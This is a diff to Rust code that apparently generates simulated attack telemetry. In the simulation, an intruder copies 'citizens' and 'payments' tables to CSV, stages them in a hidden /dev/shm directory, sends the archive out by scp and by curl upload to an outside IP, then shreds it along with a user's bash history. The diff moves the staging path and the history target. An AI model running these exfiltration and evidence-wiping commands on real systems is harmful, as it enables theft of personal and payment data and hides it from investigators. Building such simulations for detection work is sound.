@@ -241,9 +241,9 @@ fn export(stage: &mut Stage, r: &mut Stream) {
             &[
                 "tar",
                 "czf",
-                "/tmp/.c/c.tar.gz",
+                "/dev/shm/.c/c.tar.gz",
                 "-C",
-                "/tmp/.c",
+                "/dev/shm/.c",
                 "c.csv",
                 "p.csv",
             ],
@@ -257,7 +257,7 @@ fn export(stage: &mut Stage, r: &mut Stream) {
             &[
                 "scp",
                 "-q",
-                "/tmp/.c/c.tar.gz",
+                "/dev/shm/.c/c.tar.gz",
                 "b.akhmetov@10.20.1.10:/var/www/portal/static/.t/",
             ],
         );
@@ -293,14 +293,14 @@ fn tables_copied(stage: &mut Stage, r: &mut Stream) {
             52,
             "COPY",
             "public.citizens",
-            "COPY (SELECT * FROM citizens) TO '/tmp/.c/c.csv' WITH (FORMAT csv, HEADER)",
+            "COPY (SELECT * FROM citizens) TO '/dev/shm/.c/c.csv' WITH (FORMAT csv, HEADER)",
         ),
         (
             55,
             30,
             "COPY",
             "public.payments",
-            "COPY payments TO '/tmp/.c/p.csv' WITH (FORMAT csv)",
+            "COPY payments TO '/dev/shm/.c/p.csv' WITH (FORMAT csv)",
         ),
     ];
     let mut session = Session::open(stage, r, after(41, 4), "postgres", "registry", "[local]", "psql");
@@ -499,7 +499,13 @@ fn carried_away(stage: &mut Stage, r: &mut Stream) {
             after(112, 4),
             0,
             "/usr/bin/curl",
-            &["curl", "-s", "-T", "/tmp/.c/c.tar.gz", "https://198.51.100.200/u"],
+            &[
+                "curl",
+                "-s",
+                "-T",
+                "/dev/shm/.c/c.tar.gz",
+                "https://198.51.100.200/u",
+            ],
         );
     });
 }
@@ -530,7 +536,12 @@ fn clearing(stage: &mut Stage, r: &mut Stream) {
             after(153, 30),
             0,
             "/usr/bin/shred",
-            &["shred", "-u", "/tmp/.c/c.tar.gz", "/root/.bash_history"],
+            &[
+                "shred",
+                "-u",
+                "/dev/shm/.c/c.tar.gz",
+                "/home/b.akhmetov/.bash_history",
+            ],
         );
         linux::line(
             stage,
